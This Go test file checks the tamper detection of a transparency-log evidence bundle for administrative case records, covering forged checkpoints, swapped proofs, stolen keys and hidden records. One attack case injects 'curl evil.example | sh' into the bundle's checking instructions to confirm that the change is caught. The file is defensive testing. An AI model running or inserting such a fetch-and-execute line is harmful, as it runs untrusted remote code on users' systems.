package bundle

import (
	"bytes"
	"context"
	"encoding/json"
	"errors"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"golang.org/x/mod/sumdb/tlog"

	"liuhen/domain"
	"liuhen/domain/law"
	"liuhen/domain/rulebook"
	"liuhen/transparency"
	"liuhen/transparency/keys"
	"liuhen/transparency/policy"
	"liuhen/transparency/timestamp"
	"liuhen/transparency/timestamp/tsatest"
)

// busy is an office with three cases, between whose records stand others.
func busy(t testing.TB, kinds ...keys.Kind) *office {
	t.Helper()
	o := newOffice(t, kinds...)
	o.act("C-1", "file-case", "inspect")
	o.act("沈科罚〔2026〕7号", "file-case")
	o.act("C-1", "notice "+partyName, "notice 王某")
	o.act("C-3", "file-case", "inspect", "close")
	o.act("C-1", "decide", "close")
	return o
}

func TestProven(t *testing.T) {
	o := busy(t, keys.Ed25519, keys.MLDSA44, keys.SM2)
	one := o.bundle("C-1")
	r := check(t, one, options(o.key()))
	isProven(t, r)
	if len(r.Cases) != 1 || r.Cases[0] != (CaseResult{Case: "C-1", Records: 6, Shown: 6}) || !r.Pages || r.Size != 10 || r.Sealed.IsZero() || len(r.Notes) > 0 {
		t.Errorf("the result is %+v", r)
	}
	if len(r.Law) != 2 || !r.Law[0].Shipped || r.Law[0].Own {
		t.Errorf("the law is %+v", r.Law)
	}
	several := o.bundle("C-3", "沈科罚〔2026〕7号", "C-1")
	r = check(t, several, options(o.key()))
	isProven(t, r)
	if len(r.Cases) != 3 || r.Cases[1].Case != "沈科罚〔2026〕7号" || r.Cases[1].Records != 1 {
		t.Errorf("the cases are %+v", r.Cases)
	}
	if !bytes.Equal(o.bundle("C-1"), one) {
		t.Error("the same case gave another bundle")
	}
	bag := unpack(t, one)
	for i, rec := range o.records["C-1"] {
		if got := bag[recordFile("data/cases/1/", uint64(i+1))]; !bytes.Equal(got, rec.Raw) {
			t.Errorf("record %d is %s", i+1, got)
		}
	}
	if got := string(bag[evidenceFile]); strings.Count(got, "\n") != 2 || !strings.HasPrefix(got, "sha256:abab") || !strings.Contains(got, "\t1234\tC-1\t3\tdocument\t告知书\n") {
		t.Errorf("the list of evidence is %q", got)
	}

	// Nothing is said to be proven without a key, whatever stands in the bundle.
	r = check(t, one, options(""))
	if r.Verdict != Unpinned || len(r.Faults) > 0 || !strings.Contains(r.Says.ZH, "没有给出公钥") || !strings.HasPrefix(r.Says.EN, "Not proven") {
		t.Errorf("without a key: %s %+v%s", r.Verdict, r.Says, told(r))
	}
	if _, err := Check(bytes.NewReader(one), int64(len(one)), Options{Key: "nonsense"}); err == nil {
		t.Error("nonsense was taken for a key")
	}
	// Without a book the pages are not compared, and that is said.
	if r = check(t, one, Options{Key: o.key()}); r.Verdict != Proven || r.Pages || len(r.Notes) != 1 {
		t.Errorf("records only: %+v", r)
	}
	if _, err := json.Marshal(r); err != nil {
		t.Error(err)
	}
}

// TestAttacks does to a bundle what somebody might who wants another truth. Every
// manifest fits again afterwards, unless the attack is on the bag itself.
func TestAttacks(t *testing.T) {
	o := busy(t)
	bag := unpack(t, o.bundle("C-1", "C-3"))
	stranger := busy(t)
	theirs := unpack(t, stranger.bundle("C-1", "C-3"))
	const one, three = "data/cases/1/", "data/cases/2/"
	record, proof := func(n uint64) string { return recordFile(one, n) }, func(n uint64) string { return proofFile(one, n) }
	swap := func(f files, a, b string) { f[a], f[b] = f[b], f[a] }

	tests := []struct {
		name       string
		attack     func(t testing.TB, f files)
		code, file string
	}{
		{"a word of a record is changed", func(t testing.TB, f files) { f.replace(t, record(2), "第2次", "第9次") }, "changed-record", record(2)},
		{"a record is taken from another log", func(_ testing.TB, f files) {
			f[record(2)], f[proof(2)] = theirs[record(2)], theirs[proof(2)]
		}, "other-checkpoint", proof(2)},
		{"two records are swapped, with their proofs", func(_ testing.TB, f files) {
			swap(f, record(2), record(3))
			swap(f, proof(2), proof(3))
		}, "order", record(2)},
		{"two proofs are swapped", func(_ testing.TB, f files) { swap(f, proof(2), proof(3)) }, "changed-record", record(2)},
		{"a record of another case stands in this one", func(_ testing.TB, f files) {
			f[record(2)], f[proof(2)] = f[recordFile(three, 2)], f[proofFile(three, 2)]
		}, "other-case", record(2)},
		{"the last event is hidden", func(t testing.TB, f files) {
			delete(f, record(6))
			delete(f, proof(6))
			f.replace(t, one+"case.json", `"records": 6`, `"records": 5`)
			f.replace(t, one+"case.json", `"shown": 6`, `"shown": 5`)
		}, "left-out", proof(6)},
		{"the last event is hidden and the head says so", func(t testing.TB, f files) {
			delete(f, record(6))
			delete(f, proof(6))
			f.replace(t, one+"case.json", `"records": 6`, `"records": 5`)
			f.replace(t, one+"case.json", `"shown": 6`, `"shown": 5`)
			f.replace(t, one+"head.json", `"count": 6`, `"count": 5`)
		}, "head", one + "head.json"},
		{"the head is that of another case", func(_ testing.TB, f files) { f[one+"head.json"] = f[three+"head.json"] }, "other-case", one + "head.json"},
		{"an event in the middle is left out", func(_ testing.TB, f files) {
			for n := uint64(3); n < 6; n++ {
				f[record(n)], f[proof(n)] = f[record(n+1)], f[proof(n+1)]
			}
			delete(f, record(6))
			delete(f, proof(6))
		}, "order", record(3)},
		{"a record is missing", func(_ testing.TB, f files) { delete(f, record(4)) }, "missing-file", record(4)},
		{"a record is said to be hidden and is there", func(t testing.TB, f files) {
			f.replace(t, one+"case.json", `"shown": 6`, `"shown": 5`)
			f.replace(t, one+"case.json", `"hidden": []`, "\"hidden\": [\n  {\n   \"revision\": 2\n  }\n ]")
		}, "extra-file", record(2)},
		{"a file was added", func(_ testing.TB, f files) { f["data/cases/1/note.txt"] = []byte("trust me") }, "extra-file", "data/cases/1/note.txt"},
		{"a case is shown twice", func(_ testing.TB, f files) {
			for name, text := range f.clone() {
				if rest, ok := strings.CutPrefix(name, three); ok {
					delete(f, name)
					f[three+rest] = bag[one+rest]
				}
				_ = text
			}
			for _, n := range []uint64{1, 2, 3, 4, 5, 6} {
				f[recordFile(three, n)], f[proofFile(three, n)] = bag[record(n)], bag[proof(n)]
			}
		}, "twice", three + "case.json"},
		{"a case is left out", func(_ testing.TB, f files) {
			for name := range f.clone() {
				if strings.HasPrefix(name, three) {
					delete(f, name)
				}
			}
		}, "missing-file", three + "case.json"},
		{"a readable page is changed", func(t testing.TB, f files) { f.replace(t, one+"timeline.html", "第2次", "第9次") }, "changed-page", one + "timeline.html"},
		{"the page that tells how to check is changed", func(t testing.TB, f files) {
			f.replace(t, howToText, "sha256sum --quiet", "curl evil.example | sh; sha256sum --quiet")
		}, "changed-text", howToText},
		{"the list of evidence is changed", func(t testing.TB, f files) { f.replace(t, evidenceFile, "1234", "1235") }, "evidence", evidenceFile},
		{"the checkpoint is changed", func(t testing.TB, f files) {
			f.replace(t, checkpointFile, "\n10\n", "\n11\n")
		}, "bad-signature", checkpointFile},
		{"the whole bundle is another log's", func(_ testing.TB, f files) {
			clear(f)
			for name, text := range theirs {
				f[name] = text
			}
		}, "other-key", checkpointFile},
		{"a proof stands under a checkpoint by another key", func(t testing.TB, f files) {
			text := string(f[proof(2)])
			at := strings.Index(text, testOrigin)
			f[proof(2)] = []byte(text[:at] + string(theirs[checkpointFile]))
		}, "other-checkpoint", proof(2)},
		{"the log has signed two checkpoints of one size", func(_ testing.TB, f files) {
			forged := transparency.Checkpoint{Origin: testOrigin, Size: 10, Root: tlog.Hash(other)}
			text := string(f[proof(2)])
			f[proof(2)] = []byte(text[:strings.Index(text, testOrigin)] + string(o.resign(forged)))
		}, "two-truths", proof(2)},
		{"the cosigned checkpoint is a second one of that size", func(_ testing.TB, f files) {
			f[cosignedFile], f[cosignedGrowth] = o.resign(transparency.Checkpoint{Origin: testOrigin, Size: 10, Root: tlog.Hash(other)}), nil
		}, "two-truths", cosignedFile},
		{"the cosigned checkpoint did not grow out of it", func(_ testing.TB, f files) {
			f[cosignedFile], f[cosignedGrowth] = o.resign(transparency.Checkpoint{Origin: testOrigin, Size: 11, Root: tlog.Hash(other)}), nil
		}, "not-grown", cosignedGrowth},
		{"the keys are others", func(_ testing.TB, f files) { f[keysFile] = theirs[keysFile] }, "keys", keysFile},
		{"the bundle speaks of another size", func(t testing.TB, f files) { f.replace(t, manifestFile, `"size": 10`, `"size": 12`) }, "manifest", manifestFile},
		{"the bundle speaks of fewer cases", func(t testing.TB, f files) { f.replace(t, manifestFile, `"cases": 2`, `"cases": 1`) }, "extra-file", three + "case.json"},
		{"a field is there twice", func(t testing.TB, f files) {
			f.replace(t, one+"case.json", `"shown": 6,`, "\"shown\": 6,\n \"shown\": 6,")
		}, "malformed", one + "case.json"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			f := bag.clone()
			tt.attack(t, f)
			hasFault(t, check(t, f.rebag(t), options(o.key())), tt.code, tt.file)
			// Without a key it is at least not called proven.
			if r := check(t, f.rebag(t), options("")); r.Verdict == Proven {
				t.Error("without a key it is called proven")
			}
		})
	}
	t.Run("a page is changed and no manifest", func(t *testing.T) {
		f := bag.clone()
		f.replace(t, one+"timeline.html", "第2次", "第9次")
		hasFault(t, check(t, f.rezip(t), Options{Key: o.key()}), "changed-file", one+"timeline.html")
	})
	t.Run("a file is gone and no manifest is changed", func(t *testing.T) {
		f := bag.clone()
		delete(f, proof(1))
		hasFault(t, check(t, f.rezip(t), Options{Key: o.key()}), "missing-file", proof(1))
	})
	t.Run("a file beside the payload", func(t *testing.T) {
		f := bag.clone()
		f["README.html"] = []byte("read me")
		hasFault(t, check(t, f.rezip(t), Options{Key: o.key()}), "extra-file", "README.html")
	})
	t.Run("no bundle at all", func(t *testing.T) {
		hasFault(t, check(t, []byte("PK"), Options{Key: o.key()}), "bag", "")
	})
	t.Run("the key is another log's", func(t *testing.T) {
		ring, err := keys.Create(filepath.Join(t.TempDir(), "k"), "example.org/other", keys.Ed25519)
		if err != nil {
			t.Fatal(err)
		}
		defer ring.Close()
		hasFault(t, check(t, bag.rebag(t), options(ring.First()[0])), "other-log", checkpointFile)
	})
}

// TestEveryByte flips each byte of what a proof rests on, and expects that it is
// never called proven.
func TestEveryByte(t *testing.T) {
	o := newOffice(t)
	o.act("C-1", "file-case", "inspect")
	o.act("C-2", "file-case")
	bag := unpack(t, o.bundle("C-1"))
	keep := string(bag[manifestFile])
	tried := 0
	for name, text := range bag {
		step := 1
		switch {
		case !strings.HasPrefix(name, "data/"), strings.HasPrefix(name, nationalFolder): // the law is listed and not vouched for
			continue
		case strings.HasPrefix(name, "data/HOW"), strings.HasSuffix(name, ".html"):
			step = 211
		}
		for i := 0; i < len(text); i += step {
			f := bag.clone()
			f[name][i] ^= 1
			// What is said of the profile and the program is not proven, and said so in docs/BUNDLE.md.
			if name == manifestFile && i > strings.Index(keep, `"profile": "`)+len(`"profile": "`)-1 {
				break
			}
			tried++
			if r := check(t, f.rebag(t), options(o.key())); r.Verdict != NotProven {
				t.Errorf("%s with byte %d changed: %s", name, i, r.Verdict)
			}
		}
	}
	if tried < 3000 {
		t.Errorf("%d changes were tried, more were expected", tried)
	}
}

func TestCosigned(t *testing.T) {
	o := busy(t)
	court, archive := cosigner(t, "court.example"), cosigner(t, "archive.example")
	e := o.collect("C-1")
	if e.Cosigned != nil {
		t.Fatal("nobody has cosigned, and a cosigned checkpoint came")
	}
	o.act("C-3", "inspect", "inspect")
	grown, err := o.log.Wait(t.Context(), int64(o.last()))
	if err != nil {
		t.Fatal(err)
	}
	if _, err := o.history.Add(t.Context(), transparency.KindCosigned, cosign(t, grown, court)); err != nil {
		t.Fatal(err)
	}
	// The bundle is of the older checkpoint, the witness has seen the newer.
	if e.Cosigned, err = cosigned(t.Context(), o.log, e.Checkpoint, 0); err != nil || e.Cosigned == nil || len(e.Cosigned.Consistency) == 0 {
		t.Fatalf("the cosigned checkpoint is %+v, %v", e.Cosigned, err)
	}
	data := o.write(o.contents(e))
	require := func(quorum string) *policy.Policy {
		p, err := policy.Parse([]byte("log " + o.key() + "\nwitness court " + court.First()[0] + "\nwitness archive " + archive.First()[0] +
			"\ngroup both all court archive\nquorum " + quorum + "\n"))
		if err != nil {
			t.Fatal(err)
		}
		return p
	}
	opts := options("") // the policy names the log, which is as good as the key
	opts.Policy = require("court")
	r := check(t, data, opts)
	isProven(t, r)
	if r.Cosigned == nil || len(r.Cosigned.Cosigned) != 1 || r.Cosigned.Cosigned[0].Witness != "court" || r.Cosigned.Size != int64(o.last()) || r.Key != o.key() {
		t.Errorf("cosigned: %+v, key %s", r.Cosigned, r.Key)
	}
	opts.Policy = require("both")
	hasFault(t, check(t, data, opts), "too-few-witnesses", cosignedFile)
	if r := check(t, data, options(o.key())); r.Verdict != Proven || len(r.Notes) != 1 || !strings.Contains(r.Notes[0].EN, "--policy") {
		t.Errorf("without a policy: %s %+v", r.Verdict, r.Notes)
	}
	bag := unpack(t, data)
	for name, f := range map[string]func(files){
		"without the cosignature": func(f files) { f[cosignedFile] = grown.Note },
		"without the checkpoint":  func(f files) { delete(f, cosignedFile); delete(f, cosignedGrowth) },
	} {
		changed := bag.clone()
		f(changed)
		opts.Policy = require("court")
		if r := check(t, changed.rebag(t), opts); r.Verdict != NotProven {
			t.Errorf("%s: %s", name, r.Verdict)
		}
	}
	changed := bag.clone()
	changed[cosignedGrowth] = changed[cosignedGrowth][45:]
	hasFault(t, check(t, changed.rebag(t), opts), "not-grown", cosignedGrowth)
	old, err := transparency.OpenCheckpoint(e.Checkpoint.Note, testOrigin, mustChain(t, o))
	if err != nil {
		t.Fatal(err)
	}
	changed = bag.clone()
	old.Size, old.Root = 1, tlog.Hash(other)
	changed[cosignedFile] = o.resign(old)
	hasFault(t, check(t, changed.rebag(t), opts), "too-early", cosignedFile)

	// Where witnesses do not come in time the bundle is made without them.
	o.act("C-3", "inspect")
	if got := o.waited("C-3"); got.Cosigned != nil {
		t.Errorf("a cosignature of an older checkpoint was taken: %+v", got.Cosigned)
	}
	// And one that comes in time is waited for.
	o.act("C-3", "inspect")
	c, err := o.log.Wait(t.Context(), int64(o.last()))
	if err != nil {
		t.Fatal(err)
	}
	came := make(chan error, 1)
	go func() {
		_, err := o.history.Add(context.WithoutCancel(t.Context()), transparency.KindCosigned, cosign(t, c, archive))
		came <- err
	}()
	if got := o.collect("C-3"); got.Cosigned == nil {
		t.Error("the cosignature was not waited for")
	}
	if err := <-came; err != nil {
		t.Fatal(err)
	}
}

func (o *office) waited(cases ...domain.CaseID) Evidence {
	o.t.Helper()
	e, err := Collect(o.t.Context(), o.log, cases, o.last(), 0)
	if err != nil {
		o.t.Fatal(err)
	}
	return e
}

func mustChain(t testing.TB, o *office) *keys.Chain {
	t.Helper()
	c, err := o.ring.Verifiers()
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// TestRotations replaces the keys of the log: who pinned the first follows, who
// pinned the new one too.
func TestRotations(t *testing.T) {
	o := busy(t)
	first := o.key()
	c, err := o.log.Wait(t.Context(), int64(o.last()))
	if err != nil {
		t.Fatal(err)
	}
	before := o.ring.Signers()
	o.stop()
	if o.ring, err = keys.Rotate(o.ring.File(), c.Note); err != nil {
		t.Fatal(err)
	}
	if _, err := o.history.Add(t.Context(), transparency.KindRotation, o.ring.Rotations()[0]); err != nil {
		t.Fatal(err)
	}
	o.start()
	o.act("C-1", "inspect")
	data := o.bundle("C-1")
	for _, key := range []string{first, o.ring.VerifierKeys()[0]} {
		isProven(t, check(t, data, options(key)))
	}
	bag := unpack(t, data)
	gone := bag.clone()
	delete(gone, rotationsFolder+"1")
	if r := check(t, gone.rebag(t), options(first)); r.Verdict != NotProven {
		t.Errorf("without the rotation: %s", r.Verdict)
	}
	changed := bag.clone()
	changed[rotationsFolder+"1"][200] ^= 1
	if r := check(t, changed.rebag(t), options(first)); r.Verdict != NotProven {
		t.Errorf("with a changed rotation: %s", r.Verdict)
	}
	// The old key goes on after it was replaced: it is stolen.
	stolen := unpack(t, data)
	at, err := transparency.OpenCheckpoint(bag[checkpointFile], testOrigin, mustChain(t, o))
	if err != nil {
		t.Fatal(err)
	}
	stolen[checkpointFile] = signWith(t, at, before)
	hasFault(t, check(t, stolen.rebag(t), options(first)), "bad-signature", checkpointFile)
}

func TestStamp(t *testing.T) {
	o := busy(t)
	c, err := o.log.Wait(t.Context(), int64(o.last()))
	if err != nil {
		t.Fatal(err)
	}
	tsa := tsatest.New(t, tsatest.StampsTimes, tsatest.EC...)
	stamped, err := json.Marshal(map[string]any{"size": c.Size, "checkpoint": string(c.Note), "token": stampOf(tsa, c.Note)})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := o.history.Add(t.Context(), transparency.KindTimestamp, stamped); err != nil {
		t.Fatal(err)
	}
	data := o.bundle("C-1")
	opts := options(o.key())
	if opts.Roots, err = timestamp.ParseRoots(tsa.Read("ca.pem")); err != nil {
		t.Fatal(err)
	}
	r := check(t, data, opts)
	isProven(t, r)
	if r.Stamp == nil || r.Stamp.Size != c.Size || r.Stamp.Time.IsZero() {
		t.Errorf("the stamp is %+v", r.Stamp)
	}
	if r := check(t, data, options(o.key())); r.Verdict != Proven || r.Stamp != nil || len(r.Notes) != 1 {
		t.Errorf("without roots: %+v", r)
	}
	bag := unpack(t, data)
	changed := bag.clone()
	changed[stampToken] = stampOf(tsa, []byte("something else"))
	hasFault(t, check(t, changed.rebag(t), opts), "time-stamp", stampToken)
	changed = bag.clone()
	delete(changed, stampToken)
	hasFault(t, check(t, changed.rebag(t), opts), "missing-file", stampToken)
	// As HOW-TO-CHECK tells.
	dir := bag.folder(t)
	tsa.OpenSSL(nil, "ts", "-verify", "-token_in", "-in", filepath.Join(dir, stampToken), "-data", filepath.Join(dir, stampedFile), "-CAfile", "ca.pem")

	// A stamp of an older checkpoint says nothing of what came after.
	o.act("C-1", "inspect")
	if e := o.collect("C-1"); e.Stamped != nil {
		t.Error("a stamp of an older checkpoint was taken")
	}
}

func TestMasked(t *testing.T) {
	o := busy(t)
	c := o.contents(o.collect("C-1", "C-3"))
	c.Profile = Profile{Acts: map[string][]string{"visit": {"notice"}}, Addressee: "person"}
	c.Code = "party"
	if err := Write(&bytes.Buffer{}, c, nil, o.of(c.Evidence)); err == nil {
		t.Error("a bundle for a party was made without saying for which")
	}
	c.Reader = partyName
	data := o.write(c)
	bag := unpack(t, data)
	for name, text := range bag {
		if strings.Contains(string(text), "王某") || strings.Contains(string(text), "第2次") || strings.Contains(name, "records/4.json") {
			t.Errorf("%s shows what the reader may not see", name)
		}
	}
	r := check(t, data, options(o.key()))
	isProven(t, r)
	// Of C-1 the third is shown: it names the second, the head names the last.
	if r.Cases[0] != (CaseResult{Case: "C-1", Records: 6, Shown: 1, Bound: 2}) || r.Cases[1] != (CaseResult{Case: "C-3", Records: 3, Shown: 0, Bound: 1}) {
		t.Errorf("the cases are %+v", r.Cases)
	}
	if len(r.Notes) != 1 || !strings.Contains(r.Notes[0].EN, "5 records of the case C-1 are not shown; 2 of them") {
		t.Errorf("the notes are %+v", r.Notes)
	}
	if _, ok := bag["data/cases/2/timeline.html"]; ok {
		t.Error("there is a page of a case of which nothing is shown")
	}
	if strings.Contains(string(bag["data/cases/1/case.json"]), "visit.") {
		t.Error("acts that are not shown are named")
	}
	if out, err := byHand(t, bag, o.key()); err != nil {
		t.Errorf("by hand: %v\n%s", err, out)
	}
	// A hidden record is left out, or put in the place of another.
	const one = "data/cases/1/"
	for name, attack := range map[string]func(files){
		"left out":   func(f files) { delete(f, proofFile(one, 5)) },
		"twice":      func(f files) { f[proofFile(one, 5)] = f[proofFile(one, 4)] },
		"the second": func(f files) { f[proofFile(one, 2)] = f[proofFile("data/cases/2/", 1)] },
		"the last":   func(f files) { f[proofFile(one, 6)] = f[proofFile(one, 5)] },
	} {
		f := bag.clone()
		attack(f)
		if r := check(t, f.rebag(t), options(o.key())); r.Verdict != NotProven {
			t.Errorf("a hidden record %s: %s", name, r.Verdict)
		}
	}
	c.Profile.NamesActs = true
	bag = unpack(t, o.write(c))
	if !strings.Contains(string(bag["data/cases/1/case.json"]), `"act": "visit.decide"`) {
		t.Errorf("the acts are not named: %s", bag["data/cases/1/case.json"])
	}
}

// TestProfiles holds the shipped profiles against the law: an act that is not
// there, or has no such field, would silently show nothing.
func TestProfiles(t *testing.T) {
	book, err := rulebook.Load(law.Files)
	if err != nil {
		t.Fatal(err)
	}
	for code, p := range Profiles() {
		if p.Name.ZH == "" || p.Name.EN == "" {
			t.Errorf("the profile %s has no name in both languages", code)
		}
		for procedure, acts := range p.Acts {
			proc, ok := book.Procedure(procedure)
			if !ok {
				t.Errorf("profile %s: there is no procedure %s", code, procedure)
				continue
			}
			for _, name := range acts {
				act, ok := proc.Act(name)
				if !ok {
					t.Errorf("profile %s: %s has no act %s", code, procedure, name)
				} else if f, ok := act.Field(p.Addressee); p.Addressee != "" && (!ok || f.Type != "text") {
					t.Errorf("profile %s: %s.%s has no text %s", code, procedure, name, p.Addressee)
				}
			}
		}
	}
	for _, text := range []string{"a: {al: true}", "a: {all: true, acts: {p: [x]}}", "[", "a: {acts: 1}"} {
		if _, err := ReadProfiles([]byte(text)); err == nil {
			t.Errorf("%q was taken for profiles", text)
		}
	}
}

// TestWriteRefuses: what a reader could not prove is not written.
func TestWriteRefuses(t *testing.T) {
	o := busy(t)
	e := o.collect("C-1")
	prove := func(p []uint64) ([]transparency.Inclusion, error) { return o.log.ProveUnder(e.Checkpoint, p) }
	good := o.records["C-1"]
	changed := append([]domain.Recorded(nil), good...)
	changed[2].Raw = bytes.Replace(changed[2].Raw, []byte("第3次"), []byte("第4次"), 1)
	for name, records := range map[string][]domain.Recorded{
		"too few": good[:5], "changed": changed, "another case": o.records["C-3"], "swapped": {good[1], good[0], good[2], good[3], good[4], good[5]},
		"none": nil,
	} {
		err := Write(&bytes.Buffer{}, o.contents(e), prove, func(yield func([]domain.Recorded, error) bool) { yield(records, nil) })
		if err == nil || !strings.Contains(err.Error(), "C-1") {
			t.Errorf("%s: %v", name, err)
		}
	}
	boom := errors.New("boom")
	if err := Write(&bytes.Buffer{}, o.contents(e), prove, func(yield func([]domain.Recorded, error) bool) { yield(nil, boom) }); !errors.Is(err, boom) {
		t.Errorf("the error of the records: %v", err)
	}
	if err := Write(&bytes.Buffer{}, o.contents(e), prove, func(func([]domain.Recorded, error) bool) {}); err == nil {
		t.Error("a bundle without its case was written")
	}
	// A case that the log does not know has no bundle.
	e = o.collect("nobody")
	if err := Write(&bytes.Buffer{}, o.contents(e), prove, o.of(e)); err == nil {
		t.Error("a bundle of nobody was written")
	}
	// What was recorded after the log was sealed is not in the bundle, and not missed.
	e = o.collect("C-1")
	o.act("C-1", "inspect")
	r := check(t, o.write(o.contents(e)), options(o.key()))
	isProven(t, r)
	if r.Cases[0].Records != 6 {
		t.Errorf("the bundle has %d records, want the 6 of its checkpoint", r.Cases[0].Records)
	}
}

// TestPython has a validator that we did not write look at a bundle, where there
// is one: bagit-python.
func TestPython(t *testing.T) {
	python := os.Getenv("LIUHEN_PYTHON_BAGIT")
	if python == "" {
		python = "python3"
	}
	if exec.CommandContext(t.Context(), python, "-c", "import bagit").Run() != nil {
		t.Skip("there is no Python with the module bagit (LIUHEN_PYTHON_BAGIT names one)")
	}
	o := busy(t)
	dir := unpack(t, o.bundle("C-1", "沈科罚〔2026〕7号")).folder(t)
	out, err := exec.CommandContext(t.Context(), python, "-c", "import bagit, sys; bagit.Bag(sys.argv[1]).validate()", dir).CombinedOutput()
	if err != nil {
		t.Errorf("bagit-python: %v\n%s", err, out)
	}
}
